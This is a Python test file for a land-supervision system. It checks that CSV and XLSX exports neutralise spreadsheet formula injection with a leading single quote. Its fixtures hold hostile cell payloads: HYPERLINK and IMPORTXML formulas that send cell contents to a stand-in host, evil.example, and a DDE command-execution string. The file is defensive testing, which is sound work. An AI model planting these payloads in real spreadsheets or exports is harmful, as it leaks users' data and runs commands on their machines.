"""Formula injection in the supervision exports (issue 12, item 2).

Parcel ids, a street name, a land-use code and the run's author that start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return are written to the CSV and XLSX exports neutralised by
OWASP's rule (a leading single quote), so no cell of either file is a formula; every other value —
numbers as numbers — comes back unchanged. The files are read back with openpyxl and csv."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta, timezone

import pytest
from shapely.geometry import box

from land_supervision import engine, runs
from tests.integration import test_supervision_rules as T

CST = timezone(timedelta(hours=8))
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-12",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "P-OK",  # an ordinary id: left as it is
    "@bell\x07",  # and a control character XML cannot hold (openpyxl refused the whole workbook)
]
STREET = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")"
LAND_USE = "+0701"
AUTHOR = "@officer=1+1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: a cell starting with one of these is a formula
IDLE = {"actual_start": None, "agreed_start": "2024-06-01"}  # R3, R4, R5 as of 2026-06-30


def expected(value):
    return "'" + value if isinstance(value, str) and value.startswith(TRIGGERS) else value


@pytest.fixture(scope="module")
def hostile_run(database):
    from spatial_api import db

    tag = uuid.uuid4().hex[:6]
    names = {"parcels": f"t_sxl{tag}_parcels", "streets": f"t_sxl{tag}_streets"}
    at = datetime(2026, 6, 30, tzinfo=CST)
    x0, y0 = T.X0 + 6000.0, T.Y0
    parcels = [(pid, box(x0 + i * 200, y0, x0 + i * 200 + 100, y0 + 100),
                {**T.BASE, **IDLE, "land_use_code": LAND_USE, "price_cny": 1e8 + i})
               for i, pid in enumerate(HOSTILE_IDS)]
    streets = [("S1", box(x0 - 500, y0 - 500, x0 + 3000, y0 + 500), {"code": "S1", "name": STREET})]
    with db.connect(database) as conn:
        T.write_layer(conn, names["parcels"], T.PARCEL_SCHEMA, parcels, at=at, key="parcel_id", new=True)
        T.write_layer(conn, names["streets"], [("code", "string"), ("name", "string")], streets, at=at, key="code",
                      new=True)
        stored = {r[0] for r in conn.execute("SELECT fid FROM features WHERE layer = %s", (names["parcels"],))}
    assert stored == set(HOSTILE_IDS)  # the store keeps the ids as typed
    r = engine.run(database, as_of=T.REF, rules="R3,R4,R5", layers=names, imagery=False, author=AUTHOR)
    assert r.counts["total"] == 3 * len(HOSTILE_IDS)
    return r


def expected_xlsx(value):
    """In XLSX, characters XML cannot hold become U+FFFD."""
    value = expected(value)
    return value.replace("\x07", "\ufffd") if isinstance(value, str) else value


def _no_formula_string(value) -> bool:
    return not (isinstance(value, str) and value.startswith(TRIGGERS))


def test_xlsx_export_has_no_formula(hostile_run, conn):
    from openpyxl import load_workbook

    rid = hostile_run.run_id
    wb = load_workbook(io.BytesIO(runs.export(conn, rid, "xlsx")))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert _no_formula_string(cell.value), (ws.title, cell.coordinate, cell.value)
    # values: neutralised strings, everything else as stored; numbers are numeric cells
    ws = wb["发现"]
    head = [c.value for c in ws[1]]
    rows = [dict(zip(head, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]
    db_rows = {(f["rule"], f["subject_id"]): f for f in runs.findings(conn, rid)}
    assert len(rows) == len(db_rows)
    back = {}
    xlsx_ids = {expected_xlsx(pid): pid for pid in HOSTILE_IDS}
    for r in rows:
        sid = r["subject_id"]
        original = xlsx_ids[sid]
        assert r["parcel_id"] == sid
        back[(r["rule"], original)] = r
    assert set(back) == set(db_rows)
    for key, f in db_rows.items():
        r = back[key]
        assert r["street"] == expected(STREET) and r["land_use_code"] == expected(LAND_USE)
        assert r["finding_id"] == f["id"] and r["area_m2"] == pytest.approx(round(f["area_m2"], 2))
        assert all(isinstance(r[k], (int, float)) for k in ("finding_id", "run_id", "area_m2", "price_cny", "days"))
        assert r["price_cny"] == f["measures"]["price_cny"] and r["days"] == f["measures"]["days"]
        assert r["message"] == f["message"]
    for col in ("finding_id", "area_m2", "price_cny", "idle_fee_cny"):  # numbers are numeric cells
        cells = [row[head.index(col)] for row in ws.iter_rows(min_row=2)]
        assert all(c.data_type == "n" for c in cells if c.value is not None) and any(c.value for c in cells), col
    info = {row[0].value: row[1].value for row in wb["概况"].iter_rows()}
    assert info["执行人 author"] == expected_xlsx(AUTHOR) and info["运行编号 run"] == rid
    streets = [row[0].value for row in wb["按街道"].iter_rows(min_row=2)]
    assert streets == [expected(STREET)]
    classes = [row[0].value for row in wb["按用地类型"].iter_rows(min_row=2)]
    assert classes == [expected(LAND_USE[:2])]


def test_csv_export_has_no_formula(hostile_run, conn):
    rid = hostile_run.run_id
    text = runs.export(conn, rid, "csv").decode("utf-8")
    assert text.startswith("\ufeff")
    # QUOTE_NONNUMERIC on reading: quoted fields are text, unquoted ones must be numbers
    table = list(csv.reader(io.StringIO(text[1:], newline=""), quoting=csv.QUOTE_NONNUMERIC))
    head, body = table[0], table[1:]
    for row in table:
        for value in row:
            assert _no_formula_string(value), value
    rows = [dict(zip(head, r)) for r in body]
    db_rows = {(f["rule"], f["subject_id"]): f for f in runs.findings(conn, rid)}
    assert len(rows) == len(db_rows)
    for r in rows:
        sid = r["subject_id"]
        original = sid[1:] if sid.startswith("'") and sid[1:] in HOSTILE_IDS else sid
        assert sid == expected(original) and r["parcel_id"] == sid
        f = db_rows[(r["rule"], original)]
        assert r["street"] == expected(STREET) and r["land_use_code"] == expected(LAND_USE)
        assert r["finding_id"] == f["id"] and r["run_id"] == rid  # unquoted: numbers
        assert r["area_m2"] == pytest.approx(round(f["area_m2"], 2)) and r["price_cny"] == f["measures"]["price_cny"]
        assert r["message"] == f["message"] and r["rule_title"] == runs.rule_title(f["rule"])
